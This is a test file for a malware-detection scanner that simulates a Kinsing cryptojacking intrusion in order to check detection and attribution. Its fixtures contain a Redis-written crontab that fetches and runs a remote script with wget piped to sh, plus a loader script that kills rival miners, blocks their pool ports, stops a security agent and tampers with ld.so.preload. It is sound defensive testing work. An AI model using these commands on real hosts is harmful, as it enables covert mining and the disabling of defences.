import { afterAll, describe, expect, it } from 'vitest';
import { expectStages, Scenario, WALLET } from './harness.js';

/**
 * Kinsing: in through an exposed Redis that wrote a crontab (an RDB dump with a download line), a d.sh loader that
 * kills rivals, blocks their pool ports and stops Aliyun's agent, a libsystem.so preload to hide, and the
 * kdevtmpfsi miner with the kinsing agent in a writable directory.
 */
describe('scenario: Kinsing', () => {
  const s = new Scenario('kinsing', '127.0.0.13');
  afterAll(() => s.close());

  it('is one incident whose entry point is the Redis-written crontab, attributed to Kinsing', async () => {
    await s.pool(3333);
    const miner = s.binary('kdevtmpfsi');
    const agent = s.binary('kinsing');
    const rdb = Buffer.concat([
      Buffer.from(
        'REDIS0009\xfa\tredis-ver\x056.0.9\xfa\nredis-bits\xc0@\xfe\x00\xfb\x01\x00\x00\x011\x40\x3b',
        'latin1',
      ),
      Buffer.from(`\n\n*/1 * * * * wget -q -O- http://203.0.113.9/d.sh | sh\n@reboot ${agent}\n\n`),
      Buffer.from([0xff, 0x9c, 0x3a, 0x11, 0x07, 0x00, 0x00, 0x00, 0x00]),
    ]);
    s.plant('var/spool/cron/crontabs/root', rdb, 0o600);
    s.plant(
      'tmp/d.sh',
      [
        '#!/bin/bash',
        "ps aux | grep -v grep | grep xmrig | awk '{print $2}' | xargs -I % kill -9 %",
        'pkill -f sysupdate',
        'iptables -A OUTPUT -p tcp --dport 5555 -j DROP',
        'iptables -A OUTPUT -p tcp --dport 7777 -j DROP',
        'systemctl stop aliyun.service',
        `chattr -i /etc/ld.so.preload`,
        `${miner} &`,
        '',
      ].join('\n'),
      0o755,
    );
    s.plant('etc/ld.so.preload', '/etc/libsystem.so\n');
    s.plant('etc/cron.d/kinsing', `* * * * * root sh /tmp/d.sh\n@reboot root ${miner}\n`);
    // The kinsing agent starts the miner, as the real one does.
    const k = await s.start(agent, ['kinsing'], {
      MWS_CHILD: `MWS_BURN=1 MWS_POOL=${s.ip}:3333 ${miner} -o ${s.ip}:3333 -u ${WALLET}; :`,
    });
    await s.connected(1);
    const out = await s.scan();
    const m = {
      pid: out.findings.find((f) => f.ruleId === 'miner.cmdline' && f.entity.exe === miner)?.entity.pid ?? -1,
    };

    const { incident, findings } = s.incidentOf(out, 'miner.cmdline', m.pid);
    const rules = findings.map((f) => f.ruleId);
    expect(rules).toEqual(
      expect.arrayContaining([
        'initial.redis-rdb-file',
        'competitor.kill-miners',
        'competitor.firewall-pool-block',
        'evasion.security-agent-tamper',
        'evasion.chattr-immutable',
      ]),
    );
    expect(findings.some((f) => f.entity.pid === k.pid)).toBe(true);
    expectStages(incident, ['initial-access', 'execution', 'persistence', 'defense-evasion', 'impact']);
    expect(incident.entryPoint).toMatch(/^Cron or key file written by Redis/);
    expect(incident.attribution[0]?.group).toBe('Kinsing');
    expect(incident.attribution[0]?.indicators).toEqual(
      expect.arrayContaining(['miner named kdevtmpfsi', 'kinsing binary']),
    );
    const preload = out.findings.find((f) => f.ruleId === 'evasion.ld-preload');
    expect(preload?.entity.path).toBe('/etc/ld.so.preload');
  });
});
